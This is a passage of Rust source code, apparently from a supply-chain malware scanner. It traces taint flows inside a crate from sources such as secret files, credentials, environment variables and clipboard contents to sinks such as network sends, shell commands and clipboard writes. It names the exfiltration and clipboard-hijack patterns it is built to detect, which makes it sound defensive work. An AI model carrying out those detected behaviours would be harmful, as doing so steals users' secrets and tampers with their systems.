//! Data flow inside a crate: whether a value that comes from a *source* (the network, a secret
//! file, every environment variable, host facts, the clipboard, the user's directories, what a
//! walk finds) reaches a *sink* (a network send, a shell command line, a computed program path,
//! the clipboard, the directory a walk starts from, a file written).
//!
//! Co-occurrence is not enough to judge code: an HTTP client that also runs `git` has a network
//! signal and a process signal in one function, and nothing flows between them. Here values are
//! followed through local bindings (`let`, `for`, `if let`, `match` arms, assignments, closure
//! parameters, buffers filled by `push`/`write`/`read(&mut buf)`), through file-level constants,
//! through return values (a function whose result carries a source taints every caller's binding
//! of it) and through parameters (a function that hands its parameter to a shell is a sink for
//! every caller's argument), to a fixed point over the crate's functions, matched by name.
//!
//! The unit of precision is a statement: a statement's value is tainted by every identifier it
//! uses and by the sources seen on its lines that no inner statement claims. That over-approximates
//! (a field of a tainted local taints the whole local) but needs few types, which the scanner
//! does not have. Fields of the crate's structs are the exception: what is written to
//! `Plan.roots` (by a struct literal, or `self.roots = …` in a method) is what every method of
//! `Plan` reads as `self.roots`, and a method called on `self.rule` is one of the field's
//! declared type. The syntax front end ([`super::syntax`]) records the statements; the signals
//! the collector found say where sources and sinks are; [`flows`] returns a
//! [`SignalKind::Flow`] for each source that reaches a sink, located at the sink.

use crate::scan::{HashMap, HashSet};
use std::collections::BTreeMap;

use super::context::Context;
use super::signal::{HostClass, ProgramClass, Sensitivity, Signal, SignalKind};
use super::vocabulary::{
    CLIPBOARD_READS, CLIPBOARD_WRITES, COMMON_METHODS, REQUEST_VERBS, SENDING_METHODS, STD_MODULES,
};

/// One statement or binding of a function body (or a file-level constant).
#[derive(Debug, Clone, Default)]
pub struct Statement {
    /// The lines of the expression that gives the value (for a `let`, its initialiser).
    pub first: u32,
    pub last: u32,
    /// Identifiers the value is computed from.
    pub uses: Vec<String>,
    /// Identifiers bound or changed by it.
    pub defs: Vec<String>,
    /// Whether its value is what the function returns (the tail expression or a `return`).
    pub returns: bool,
}

/// A call of a function or method by name, with the identifiers of each argument.
#[derive(Debug, Clone)]
pub struct CallSite {
    /// The name called; empty for a call of an expression (`TABLE[op](vm)`).
    pub callee: String,
    /// For a call of an expression: the identifiers of that expression (`TABLE`, `op`).
    pub called_value: Vec<String>,
    /// `Type` in `Type::callee(…)`.
    pub qualifier: Option<String>,
    /// Called with method syntax (`x.callee(…)`).
    pub method: bool,
    /// Called on `self`.
    pub on_self: bool,
    /// The variable a method is called on (`stream` in `stream.write_all(…)`).
    pub receiver: Option<String>,
    /// The field of `self` a method is called on (`rule` in `self.rule.apply(…)`): the method
    /// is the one of the field's declared type.
    pub receiver_field: Option<String>,
    /// The types the variable a method is called on is declared as (`backend: Backend`): the
    /// method is one of theirs, when the crate has one.
    pub receiver_types: Vec<String>,
    /// The free function whose result that variable was bound to, and the module it was
    /// called through (`let b = backend::detected()`): when it is the crate's, the method is one
    /// of the type that function declares it returns.
    pub receiver_made_by: Option<(Option<String>, String)>,
    /// Where a chain of calls starts when it is not a variable: the variable it starts from
    /// (`client` in `client.post(url).body(data)`), or, for a chain that starts with an HTTP or
    /// socket crate's function (`reqwest::Client::new().post(url)…`), that it does.
    pub chain: Option<ChainRoot>,
    pub args: Vec<Vec<String>>,
    /// The lines of each argument: a source written in an argument (`f(home_dir())`) is in it.
    pub arg_lines: Vec<(u32, u32)>,
    pub line: u32,
}

/// Where a chain of method calls starts.
#[derive(Debug, Clone, PartialEq)]
pub enum ChainRoot {
    Variable(String),
    NetworkCrate,
}

/// What the syntax front end records about one function.
#[derive(Debug, Clone)]
pub struct FunctionFlow {
    pub scope: u32,
    pub name: String,
    /// The type of its `impl` (or its trait).
    pub owner: Option<String>,
    /// Whether it takes `self`.
    pub method: bool,
    /// Test code (`#[test]`, `#[cfg(test)]`): not followed, since tests feed the library what
    /// they like.
    pub test: bool,
    /// The identifiers each parameter binds (`self` is not a parameter here).
    pub params: Vec<Vec<String>>,
    /// Per parameter, whether it is lent mutably (`&mut Vec<_>`): what the function puts into
    /// it is the caller's afterwards. A parameter taken by value and bound again is not.
    pub filled: Vec<bool>,
    /// The trait its `impl` implements, if any (`Step` for `impl Step for Shell`).
    pub implements: Option<String>,
    /// Parameters typed as a connection or a network client (`agent: &ureq::Agent`).
    pub network_params: Vec<String>,
    /// The types its signature says it returns (`-> Backend`, `-> Option<Arc<Backend>>`).
    pub returns: Vec<String>,
    pub statements: Vec<Statement>,
    pub calls: Vec<CallSite>,
}

/// What the syntax front end records about one file.
#[derive(Debug, Clone)]
pub struct FileFlow {
    pub file: String,
    pub context: Context,
    pub functions: Vec<FunctionFlow>,
    /// `const` and `static` items: the name is the def.
    pub constants: Vec<Statement>,
    /// The methods the file's traits declare, as (trait, method) (`trait Step { fn apply(&self,
    /// …); }`): a call of one of those names on a value of unknown type may be a call through
    /// the trait, to any implementation of it.
    pub trait_methods: Vec<(String, String)>,
    /// The named fields of the file's structs (outside test code), with the types whose methods
    /// a call on the field reaches (`rule: Rule` → (`Plan`, `rule`, [`Rule`]); `Box<dyn Step>`
    /// → [`Step`]; a `Vec<Node>` has methods of its own, not `Node`'s).
    pub field_types: Vec<(String, String, Vec<String>)>,
    /// The modules written inline in the file (`mod legacy { … }`): `legacy::target()` is the
    /// crate's own function, as `retain::collect()` is for a module of its own file.
    pub modules: Vec<String>,
    /// The file's `static` items (`static STATE: Mutex<Option<PathBuf>>`): what a function puts
    /// into one (through a guard, `set`, `push`) every function that reads it gets.
    pub statics: Vec<String>,
}

/// Where a value comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Source {
    /// Data received over a connection, or the connection itself.
    Network,
    /// A highly sensitive file or store (keys, wallets, cloud and registry credentials).
    SecretFile,
    /// A file that often holds secrets (`.env`, `.ssh`, `.git-credentials`).
    SensitiveFile,
    /// Every environment variable.
    Environment,
    /// Who and where the machine is.
    HostFacts,
    /// The clipboard's contents.
    Clipboard,
    /// A destination written into the code (a host, URL or address, plain or hidden), or
    /// anything else hidden in it.
    FixedDestination,
    /// The user's own directories (home, documents, desktop).
    UserDirectory,
    /// What a directory walk finds: paths, and what is read from them.
    WalkedFiles,
    /// Data decoded at run time (base64, hex, XOR, decompression).
    Decoded,
    /// An environment variable that holds a secret.
    SecretVariable,
    /// A shell started, its handles and what it prints.
    ShellProcess,
    /// The directory the program runs in: its user's project.
    WorkingDirectory,
    /// A well-known host written into the code (github.com, crates.io).
    WellKnownHost,
    /// Where the machine is: its time zone, language or keyboard layout.
    Locale,
    /// The Rust toolchain's own directories, named as such (`CARGO_HOME`, `RUSTUP_HOME`,
    /// `home::cargo_home()`).
    ToolchainHome,
    /// A `.cargo` or `.rustup` directory joined onto a path: the toolchain's when the path is
    /// the home directory, a build's own under `OUT_DIR`.
    ToolchainDirectory,
    /// Bytes the crate carries that are no text, image or document (`include_bytes!` of an
    /// opaque file, an opaque array in the code): only the crate's own code knows what they
    /// become.
    OpaqueCarried,
}

const SOURCES: [Source; 18] = [
    Source::Network,
    Source::SecretFile,
    Source::SensitiveFile,
    Source::Environment,
    Source::HostFacts,
    Source::Clipboard,
    Source::FixedDestination,
    Source::UserDirectory,
    Source::WalkedFiles,
    Source::Decoded,
    Source::SecretVariable,
    Source::ShellProcess,
    Source::WorkingDirectory,
    Source::WellKnownHost,
    Source::Locale,
    Source::ToolchainHome,
    Source::ToolchainDirectory,
    Source::OpaqueCarried,
];

impl Source {
    const fn bit(self) -> u64 {
        1 << (self as u32)
    }

    pub fn describe(self) -> &'static str {
        match self {
            Source::Network => "data received from the network",
            Source::SecretFile => "secret key material",
            Source::SensitiveFile => "a file that holds secrets",
            Source::Environment => "the whole environment",
            Source::HostFacts => "facts about the host and its user",
            Source::Clipboard => "the clipboard's contents",
            Source::FixedDestination => "a destination written into the code",
            Source::UserDirectory => "the user's own directories",
            Source::WalkedFiles => "files found by walking directories",
            Source::Decoded => "data decoded at run time",
            Source::SecretVariable => "a secret from the environment",
            Source::ShellProcess => "a shell's input or output",
            Source::WorkingDirectory => "the directory it runs in",
            Source::WellKnownHost => "a well-known host written into the code",
            Source::Locale => "the machine's time zone, language or keyboard",
            Source::ToolchainHome => "the Rust toolchain's own directory",
            Source::ToolchainDirectory => "a `.cargo` directory",
            Source::OpaqueCarried => "opaque bytes the crate carries",
        }
    }
}

/// Where a value ends up.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Sink {
    /// Sent over a connection (or handed to a program that sends it, `curl`, `nc`, `ping`).
    Network,
    /// The command line of a shell or an interpreter.
    Shell,
    /// The path of a program that is started.
    Execute,
    /// The clipboard.
    Clipboard,
    /// The directory a walk starts from.
    Walk,
    /// A file written (its path or its contents).
    Write,
    /// The path of a file written (or opened for writing): where it lies, not what goes in it.
    WriteDestination,
    /// Looked up in a constant list of hashes (`TARGETS.contains(&fnv(host))`).
    TargetLookup,
}

impl Sink {
    pub fn describe(self) -> &'static str {
        match self {
            Sink::Network => "is sent over the network",
            Sink::Shell => "is run as a command line",
            Sink::Execute => "is started as a program",
            Sink::Clipboard => "is put on the clipboard",
            Sink::Walk => "is walked",
            Sink::Write => "is written to a file",
            Sink::WriteDestination => "names a file that is written",
            Sink::TargetLookup => "is looked up in a list of hashes written into the code",
        }
    }
}

/// First parameter bit: parameters are followed as pseudo-sources while a function is summarised.
const PARAM_SHIFT: u32 = 32;
const MAX_PARAMS: usize = 32;
const SOURCE_MASK: u64 = (1 << PARAM_SHIFT) - 1;

fn param_bit(index: usize) -> u64 {
    1 << (PARAM_SHIFT + index as u32)
}

fn params_of(bits: u64) -> impl Iterator<Item = usize> {
    (0..MAX_PARAMS).filter(move |i| bits & param_bit(*i) != 0)
}

fn sources_of(bits: u64) -> impl Iterator<Item = Source> {
    SOURCES.into_iter().filter(move |s| bits & s.bit() != 0)
}

/// The source a signal is, if it is one.
fn source_of(kind: &SignalKind) -> Option<Source> {
    Some(match kind {
        SignalKind::Network { .. } => Source::Network,
        SignalKind::SensitivePath { level, .. } => match level {
            Sensitivity::High => Source::SecretFile,
            Sensitivity::Medium => Source::SensitiveFile,
        },
        SignalKind::EnvHarvest { .. } => Source::Environment,
        SignalKind::HostProfile { .. } => Source::HostFacts,
        // What was copied, not the clipboard's handle (`Clipboard::new()` reads nothing).
        SignalKind::Clipboard { how, write: false } if reads_contents(how) => Source::Clipboard,
        // A well-known host (github.com, crates.io) is where honest code fetches releases and
        // sends its tokens; any other host written in the code, or hidden in it, is a party
        // its author picked.
        SignalKind::Destination { class, .. } if *class != HostClass::WellKnown => {
            Source::FixedDestination
        }
        SignalKind::Destination { .. } => Source::WellKnownHost,
        SignalKind::HiddenIndicator { .. } | SignalKind::UnreadDecoding { .. } => {
            Source::FixedDestination
        }
        SignalKind::ServedRequest { .. } => Source::Network,
        SignalKind::UserDirectory { .. } => Source::UserDirectory,
        SignalKind::LocaleCheck { .. } => Source::Locale,
        SignalKind::CarriedBytes { opaque: true, .. } | SignalKind::OpaqueConstant { .. } => {
            Source::OpaqueCarried
        }
        SignalKind::ToolchainHome { joined: false, .. } => Source::ToolchainHome,
        SignalKind::ToolchainHome { joined: true, .. } => Source::ToolchainDirectory,
        SignalKind::WorkingDirectory { .. } => Source::WorkingDirectory,
        SignalKind::WalksFiles { .. } => Source::WalkedFiles,
        SignalKind::Decode { .. } => Source::Decoded,
        SignalKind::SecretVariable { .. } => Source::SecretVariable,
        SignalKind::Spawn {
            class: ProgramClass::Shell,
            ..
        } => Source::ShellProcess,
        _ => return None,
    })
}

/// Whether a clipboard signal reads what was copied: a read call, or a program that prints it.
fn reads_contents(how: &str) -> bool {
    how.starts_with("runs `")
        || CLIPBOARD_READS.iter().any(|read| {
            how.strip_suffix("()")
                .unwrap_or(how)
                .rsplit(['.', ':'])
                .next()
                == Some(read)
        })
}

/// The sink a signal is, if it is one.
fn sink_of(kind: &SignalKind) -> Option<Sink> {
    Some(match kind {
        SignalKind::Network { .. } => Sink::Network,
        SignalKind::Spawn {
            class: ProgramClass::Downloader,
            ..
        } => Sink::Network,
        SignalKind::ShellComputed { .. } | SignalKind::Evaluates { .. } => Sink::Shell,
        SignalKind::ExecComputed { .. }
        | SignalKind::NativeByName { .. }
        | SignalKind::Spawn {
            class: ProgramClass::Computed,
            ..
        } => Sink::Execute,
        SignalKind::Clipboard { write: true, .. } => Sink::Clipboard,
        SignalKind::WalksFiles { .. } => Sink::Walk,
        SignalKind::FileWrite { .. } => Sink::Write,
        SignalKind::HashedTargets { .. } => Sink::TargetLookup,
        _ => return None,
    })
}

/// A function's summary, refined to a fixed point.
#[derive(Debug, Clone, Default, PartialEq)]
struct Summary {
    /// Sources its return value carries.
    returns: u64,
    /// Per parameter: the sinks it reaches, with the signal that is the sink.
    param_sinks: Vec<BTreeMap<Sink, usize>>,
    /// Per parameter: the sources it meets in one statement (a connection handed in as a
    /// parameter meets the secret the function reads).
    param_meets: Vec<u64>,
    /// Per parameter: the sources the function puts into it (`out.push(path)` into a `&mut
    /// Vec` it is handed: a walk that collects what it finds into its caller's list).
    param_fills: Vec<u64>,
    /// Per parameter: the sources the function hands it when it calls it (`f(&path)` in a walk
    /// that takes a callback): what the caller's closure is called with.
    param_called: Vec<u64>,
    /// The fields of the crate's structs it writes (`Plan.roots`, written by a struct literal
    /// or by `self.roots = …` in a method of `Plan`), with the sources it writes there.
    fields: BTreeMap<String, u64>,
    /// Per parameter: the fields it is written into (`Plan { roots: vec![dir] }`): what the
    /// caller hands in lands there.
    param_fields: Vec<std::collections::BTreeSet<String>>,
}

/// Where one statement's own signals are.
#[derive(Debug, Clone, Default)]
struct Own {
    sources: u64,
    sinks: Vec<(Sink, usize)>,
}

/// The flows from sources to sinks in the files recorded, as signals at the sinks, and whether
/// `over_budget` cut the analysis short.
pub fn flows(
    files: &[FileFlow],
    signals: &[Signal],
    over_budget: &dyn Fn() -> bool,
) -> (Vec<Signal>, bool) {
    let mut out = Vec::new();
    let mut groups: BTreeMap<Context, Vec<&FileFlow>> = BTreeMap::new();
    for file in files {
        groups.entry(file.context).or_default().push(file);
    }
    for files in groups.values() {
        if !flows_in_target(files, signals, over_budget, &mut out) {
            return (out, true);
        }
    }
    (out, false)
}

/// The identifiers in a piece of code (`dir.join(name)` → `dir`, `join`, `name`).
fn identifiers(code: &str) -> Vec<String> {
    code.split(|c: char| !(c.is_alphanumeric() || c == '_'))
        .filter(|word| {
            word.chars()
                .next()
                .is_some_and(|c| c.is_alphabetic() || c == '_')
        })
        .map(str::to_owned)
        .collect()
}

/// Most functions one call may reach: a name shared by more is not followed (a crate of a
/// thousand `fn f` would otherwise make every call of `f` a thousand edges).
const MAX_CALLEES: usize = 8;

/// Most functions a call through a pointer may reach: the functions of the tables it reads that
/// take as many arguments. A table of handlers (an interpreter's opcodes) is a few dozen to a
/// byte's worth; past this, nothing is followed.
const MAX_INDIRECT_CALLEES: usize = 256;

/// For a call through a pointer rather than a function's name, the functions it may reach:
/// those of the tables ([`flows_in_target`]'s `tables`) the pointer is read from, that take as
/// many arguments. A call of an expression (`TABLE[op](vm)`) reads the tables it names; a call
/// of a local or parameter no function of the crate is called (`let h = TABLE.get(op)?;
/// h(&mut vm)`, `DETECTORS.get(kind).and_then(|detect| detect(args))`) reads those the
/// statements binding it name, through up to two more locals. `None` for a call by name.
fn through_table<'f>(
    by_name: &HashMap<&str, Vec<&FunctionFlow>>,
    tables: &HashMap<&str, Vec<&FunctionFlow>>,
    caller: &'f FunctionFlow,
    bindings: &std::cell::OnceCell<HashMap<&'f str, Vec<&'f Statement>>>,
    call: &'f CallSite,
) -> Option<Vec<u32>> {
    if call.method || call.qualifier.is_some() {
        return None;
    }
    let mut names: Vec<&str> = if call.callee.is_empty() {
        call.called_value.iter().map(String::as_str).collect()
    } else {
        let named_function = by_name
            .get(call.callee.as_str())
            .is_some_and(|functions| functions.iter().any(|f| !f.method));
        // `Some(x)`, `Ok(x)` and tuple structs are built, not called.
        let constructs = call.callee.starts_with(|c: char| c.is_ascii_uppercase());
        if named_function || constructs {
            return None;
        }
        vec![call.callee.as_str()]
    };
    if tables.is_empty() {
        return Some(Vec::new());
    }
    // The statements that bind each name, found once per function that needs them.
    let bindings = bindings.get_or_init(|| {
        let mut index: HashMap<&str, Vec<&Statement>> = HashMap::default();
        for statement in &caller.statements {
            for def in &statement.defs {
                index.entry(def.as_str()).or_default().push(statement);
            }
        }
        index
    });
    let mut found: Vec<u32> = Vec::new();
    let mut visited: HashSet<&str> = HashSet::default();
    for _ in 0..3 {
        let mut next = Vec::new();
        for name in names.drain(..) {
            if !visited.insert(name) || visited.len() > MAX_POINTER_NAMES {
                continue;
            }
            for function in tables.get(name).into_iter().flatten() {
                if function.params.len() == call.args.len() && !found.contains(&function.scope) {
                    if found.len() == MAX_INDIRECT_CALLEES {
                        return Some(Vec::new());
                    }
                    found.push(function.scope);
                }
            }
            for statement in bindings.get(name).into_iter().flatten() {
                next.extend(statement.uses.iter().map(String::as_str));
            }
        }
        names = next;
    }
    Some(found)
}

/// Most names followed back from one call through a pointer to the tables it may read.
const MAX_POINTER_NAMES: usize = 256;

/// Most passes over a function's statements for values carried around its loops.
const MAX_PASSES: usize = 8;

/// The innermost statements whose lines hold `line`: every one of the fewest lines (a line can
/// hold a binding, the call that gives its value and the closure's parameters alike).
fn innermost(statements: &[Statement], line: u32) -> Vec<usize> {
    let covering = |s: &Statement| s.first <= line && line <= s.last;
    let Some(size) = statements
        .iter()
        .filter(|s| covering(s))
        .map(|s| s.last - s.first)
        .min()
    else {
        return Vec::new();
    };
    (0..statements.len())
        .filter(|&i| covering(&statements[i]) && statements[i].last - statements[i].first == size)
        .collect()
}

/// Follows one target's flows into `out`; false when the budget ran out.
fn flows_in_target(
    files: &[&FileFlow],
    signals: &[Signal],
    over_budget: &dyn Fn() -> bool,
    out: &mut Vec<Signal>,
) -> bool {
    // Where each function is, and where each signal belongs.
    let mut by_scope: HashMap<u32, &FunctionFlow> = HashMap::default();
    let mut by_name: HashMap<&str, Vec<&FunctionFlow>> = HashMap::default();
    // The crate's module names (file stems and directories): `parser::parse()` may be the
    // crate's own `parse`, `thread::spawn()` is not its `spawn`.
    let mut modules: HashSet<&str> = ["crate", "self", "super", "Self"].into_iter().collect();
    // Method name → the crate's traits that declare it.
    let mut trait_methods: HashMap<&str, Vec<&str>> = HashMap::default();
    for (declaring, method) in files.iter().flat_map(|file| file.trait_methods.iter()) {
        trait_methods
            .entry(method.as_str())
            .or_default()
            .push(declaring.as_str());
    }
    for file in files {
        for part in file.file.trim_end_matches(".rs").split('/') {
            modules.insert(part);
        }
        modules.extend(
            file.modules
                .iter()
                .map(String::as_str)
                .filter(|name| STD_MODULES.binary_search(name).is_err()),
        );
    }
    for file in files {
        for function in file.functions.iter().filter(|f| !f.test) {
            by_scope.insert(function.scope, function);
            by_name
                .entry(function.name.as_str())
                .or_default()
                .push(function);
        }
    }
    let mut own: HashMap<(u32, usize), Own> = HashMap::default();
    // The line of each file write and the identifiers its destination is written with.
    let mut destinations: HashMap<usize, (u32, Vec<String>)> = HashMap::default();
    // Sources by function and line, for arguments that hold them.
    let mut line_sources: HashMap<(u32, u32), u64> = HashMap::default();
    let mut constant_own: HashMap<(usize, usize), u64> = HashMap::default();
    // The first signal of each source, as evidence.
    let mut first_source: BTreeMap<Source, usize> = BTreeMap::new();
    for (index, signal) in signals.iter().enumerate() {
        let source = source_of(&signal.kind);
        let sink = sink_of(&signal.kind);
        if source.is_none() && sink.is_none() {
            continue;
        }
        match signal.scope {
            Some(scope) => {
                let Some(function) = by_scope.get(&scope) else {
                    continue;
                };
                if let Some(source) = source {
                    *line_sources.entry((scope, signal.line)).or_default() |= source.bit();
                }
                for statement in innermost(&function.statements, signal.line) {
                    let entry = own.entry((scope, statement)).or_default();
                    if let Some(source) = source {
                        entry.sources |= source.bit();
                        first_source.entry(source).or_insert(index);
                    }
                    if let Some(sink) = sink {
                        entry.sinks.push((sink, index));
                    }
                    if let SignalKind::FileWrite { target } = &signal.kind {
                        entry.sinks.push((Sink::WriteDestination, index));
                        destinations
                            .entry(index)
                            .or_insert_with(|| (signal.line, identifiers(target)));
                    }
                }
            }
            None => {
                let Some((file_index, file)) = files
                    .iter()
                    .enumerate()
                    .find(|(_, f)| f.file == signal.file)
                else {
                    continue;
                };
                if let Some(source) = source {
                    for statement in innermost(&file.constants, signal.line) {
                        *constant_own.entry((file_index, statement)).or_default() |= source.bit();
                        first_source.entry(source).or_insert(index);
                    }
                }
            }
        }
    }
    if own.is_empty() && constant_own.is_empty() {
        return true;
    }
    // The sources of each function by line, for the statements whose value holds nested code.
    let mut scope_sources: HashMap<u32, Vec<(u32, u64)>> = HashMap::default();
    for (&(scope, line), &bits) in &line_sources {
        scope_sources.entry(scope).or_default().push((line, bits));
    }
    // Nothing to follow where the only sink is the network and the only sources are the
    // network and the destinations written in the code (an HTTP client): no rule asks about
    // those flows alone.
    let plain = Source::Network.bit()
        | Source::FixedDestination.bit()
        | Source::WellKnownHost.bit()
        | Source::Decoded.bit()
        | Source::OpaqueCarried.bit();
    let sources_seen = own.values().fold(0, |all, o| all | o.sources)
        | constant_own.values().fold(0, |all, bits| all | bits);
    // A file written counts for walked files only (not among `plain`'s sources).
    let sinks_beyond_network = own.values().any(|o| {
        o.sinks
            .iter()
            .any(|(sink, _)| !matches!(sink, Sink::Network | Sink::Write | Sink::WriteDestination))
    });
    // A build script writing a Rust file may be writing what it downloaded (see `score`).
    let writes_rust = signals.iter().any(|s| {
        s.context == Context::BuildScript
            && matches!(&s.kind, SignalKind::FileWrite { target } if target.contains(".rs\""))
    });
    // A pool's protocol asks whether the connection goes where the code fixed (see `score`).
    let speaks_mining = signals
        .iter()
        .any(|s| matches!(s.kind, SignalKind::MiningProtocol { .. }));
    if !sinks_beyond_network && sources_seen & !plain == 0 && !writes_rust && !speaks_mining {
        return true;
    }
    // Clipboard tools named in the code (`"pbcopy"`, `runs \`xclip\` to write it`).
    let clipboard_tools: HashSet<usize> = signals
        .iter()
        .enumerate()
        .filter(|(_, s)| matches!(&s.kind, SignalKind::Clipboard { how, .. } if how.starts_with("runs `")))
        .map(|(index, _)| index)
        .collect();
    // The lines naming a clipboard tool that reads (`"pbpaste"`, `xclip -o`), by function.
    let mut clipboard_tool_readers: HashMap<u32, Vec<u32>> = HashMap::default();
    for s in signals {
        if let (SignalKind::Clipboard { how, write: false }, Some(scope)) = (&s.kind, s.scope) {
            if how.starts_with("runs `") {
                clipboard_tool_readers
                    .entry(scope)
                    .or_default()
                    .push(s.line);
            }
        }
    }
    // Clipboard writes that are calls of a function by its name (`clipboard::set_text(a)`,
    // `board.set_text(a)`), by signal: the name called, and the path before it if any.
    let clipboard_writers: HashMap<usize, (Option<&str>, &str)> = signals
        .iter()
        .enumerate()
        .filter_map(|(index, s)| match &s.kind {
            SignalKind::Clipboard { how, write: true } if !how.contains('`') => {
                let called = how.trim_start_matches('.').trim_end_matches("()");
                let (path, name) = match called.rsplit_once("::") {
                    Some((path, name)) => (Some(path.rsplit("::").next().unwrap_or(path)), name),
                    None => (None, called),
                };
                Some((index, (path, name)))
            }
            _ => None,
        })
        .collect();
    // Tables of functions: the crate's free functions each file-level constant or static names
    // (`static TABLE: [Handler; 19] = [h_const, …]`, a `Lazy` map of `Box::new(probe)`), what a
    // call through a value read from it may reach.
    let mut tables: HashMap<&str, Vec<&FunctionFlow>> = HashMap::default();
    for constant in files.iter().flat_map(|file| file.constants.iter()) {
        let named: Vec<&FunctionFlow> = constant
            .uses
            .iter()
            .filter_map(|used| by_name.get(used.as_str()))
            .flatten()
            .copied()
            .filter(|function| !function.method)
            .take(MAX_INDIRECT_CALLEES + 1)
            .collect();
        if named.is_empty() {
            continue;
        }
        for def in &constant.defs {
            let entry = tables.entry(def.as_str()).or_default();
            for function in &named {
                if entry.len() > MAX_INDIRECT_CALLEES {
                    break;
                }
                if !entry.iter().any(|f| f.scope == function.scope) {
                    entry.push(function);
                }
            }
        }
    }
    let field_types = StructFields::new(files);
    let statics: HashSet<&str> = files
        .iter()
        .flat_map(|file| file.statics.iter().map(String::as_str))
        .collect();
    // The fields each function reads or writes, by the names its statements use for them
    // (`self.roots`, `Plan.roots`), with the name they are stored under: found once.
    let field_keys: HashMap<u32, HashMap<&str, String>> = by_scope
        .values()
        .filter_map(|function| {
            let names = function
                .statements
                .iter()
                .flat_map(|s| s.uses.iter().chain(&s.defs))
                .chain(function.calls.iter().flat_map(|c| c.args.iter().flatten()))
                .filter(|name| name.contains('.') || statics.contains(name.as_str()));
            let keys: HashMap<&str, String> = names
                .filter_map(|name| {
                    let key = if statics.contains(name.as_str()) {
                        format!("static {name}")
                    } else {
                        field_types.field_key(function, name)?
                    };
                    Some((name.as_str(), key))
                })
                .collect();
            (!keys.is_empty()).then_some((function.scope, keys))
        })
        .collect();
    let no_keys = HashMap::default();
    // What each call may reach, found once.
    let call_callees: HashMap<(u32, usize), Vec<u32>> = by_scope
        .values()
        .flat_map(|function| {
            let modules = &modules;
            let by_name = &by_name;
            let trait_methods = &trait_methods;
            let tables = &tables;
            let field_types = &field_types;
            let bindings = std::cell::OnceCell::new();
            function.calls.iter().enumerate().map(move |(index, call)| {
                if let Some(found) = through_table(by_name, tables, function, &bindings, call) {
                    return ((function.scope, index), found);
                }
                let found: Vec<u32> =
                    callees(by_name, modules, trait_methods, field_types, function, call)
                        .map(|f| f.scope)
                        .take(MAX_CALLEES + 1)
                        .collect();
                let found = if found.len() > MAX_CALLEES {
                    Vec::new()
                } else {
                    found
                };
                ((function.scope, index), found)
            })
        })
        .collect();
    // The statements each call is on, found once.
    let call_statements: HashMap<(u32, usize), Vec<usize>> = by_scope
        .values()
        .flat_map(|function| {
            function.calls.iter().enumerate().map(|(index, call)| {
                (
                    (function.scope, index),
                    innermost(&function.statements, call.line),
                )
            })
        })
        .collect();

    // Constants: their names carry what their values hold.
    let mut globals: HashMap<String, u64> = HashMap::default();
    for _ in 0..4 {
        for (file_index, file) in files.iter().enumerate() {
            for (index, constant) in file.constants.iter().enumerate() {
                let bits = constant_own.get(&(file_index, index)).copied().unwrap_or(0)
                    | constant
                        .uses
                        .iter()
                        .map(|u| globals.get(u).copied().unwrap_or(0))
                        .fold(0, |a, b| a | b);
                for def in &constant.defs {
                    *globals.entry(def.clone()).or_default() |= bits;
                }
            }
        }
    }

    // Functions, to a fixed point of their summaries.
    let mut summaries: HashMap<u32, Summary> = HashMap::default();
    let mut found: BTreeMap<(Source, Sink, usize), Option<u32>> = BTreeMap::new();
    let connection = first_source.get(&Source::Network).copied();
    let shell = first_source.get(&Source::ShellProcess).copied();
    // A clipboard tool that writes (`pbcopy`, `xclip -in`), named in the code: what is written
    // to the input of a program started from it goes onto the clipboard.
    let clipboard_tool_writer = signals.iter().position(|s| {
        matches!(&s.kind, SignalKind::Clipboard { how, write: true } if how.starts_with("runs `"))
    });
    let mut functions: Vec<&FunctionFlow> = by_scope.values().copied().collect();
    functions.sort_by_key(|f| f.scope);
    for _round in 0..16 {
        let mut changed = false;
        // What the functions write into the fields of the crate's structs, as of the last round.
        let mut fields: HashMap<String, u64> = HashMap::default();
        for summary in summaries.values() {
            for (field, &bits) in &summary.fields {
                *fields.entry(field.clone()).or_default() |= bits;
            }
        }
        for function in &functions {
            if over_budget() {
                return false;
            }
            let target = Target {
                own: &own,
                globals: &globals,
                line_sources: &line_sources,
                scope_sources: &scope_sources,
                call_callees: &call_callees,
                connection,
                shell,
                clipboard_tool_writer,
                call_statements: &call_statements,
                destinations: &destinations,
                clipboard_tools: &clipboard_tools,
                clipboard_tool_readers: clipboard_tool_readers
                    .get(&function.scope)
                    .map_or(&[], Vec::as_slice),
                clipboard_writers: &clipboard_writers,
                fields: &fields,
                field_keys: field_keys.get(&function.scope).unwrap_or(&no_keys),
            };
            let summary = analyse_function(function, &target, &summaries, &mut found);
            if summaries.get(&function.scope) != Some(&summary) {
                summaries.insert(function.scope, summary);
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }

    for &(_, _, sink_index) in found
        .keys()
        .filter(|(source, sink, _)| *source == Source::Clipboard && *sink == Sink::Clipboard)
    {
        let at = &signals[sink_index];
        let reporter = at
            .scope
            .and_then(|scope| by_scope.get(&scope))
            .and_then(|function| reported_rewrite(function, at.line));
        if let Some((callback, line)) = reporter {
            out.push(Signal {
                kind: SignalKind::ReportsRewrite { callback },
                line,
                ..at.clone()
            });
        }
    }
    for ((source, sink, sink_index), call_line) in found {
        let at = &signals[sink_index];
        let from = first_source.get(&source).map(|&i| &signals[i]);
        out.push(Signal {
            kind: SignalKind::Flow {
                source,
                sink,
                from: from
                    .map(|s| format!("{}:{} {}", s.file, s.line, s.kind.describe()))
                    .unwrap_or_default(),
                through_call: call_line,
            },
            context: at.context,
            file: at.file.clone(),
            line: at.line,
            snippet: at.snippet.clone(),
            scope: at.scope,
            origin: at.origin,
        });
    }
    true
}

/// Where the function that puts a value on the clipboard at `write_line` then hands that value
/// to a function value its caller supplied, and the callee's name: a callback parameter
/// (`on_change(Change { before, after })`) or a closure bound in the function (`emit(…)`), not
/// a function of the crate or a method. Calling a callback to *compute* the value does not count:
/// what it is handed must be what was written.
/// Rounds of following names bound from the caller's values (see [`reported_rewrite`]).
const MAX_CALLBACK_ROUNDS: usize = 4;

fn reported_rewrite(function: &FunctionFlow, write_line: u32) -> Option<(String, u32)> {
    // Method names in an argument (`clean.clone()`) say nothing about which value it is.
    let meaningful = |name: &&String| !COMMON_METHODS.contains(&name.as_str());
    let written: Vec<&String> = function
        .calls
        .iter()
        .filter(|call| {
            call.line == write_line
                && call.method
                && CLIPBOARD_WRITES.contains(&call.callee.as_str())
        })
        .flat_map(|call| call.args.iter().flatten())
        .filter(meaningful)
        .collect();
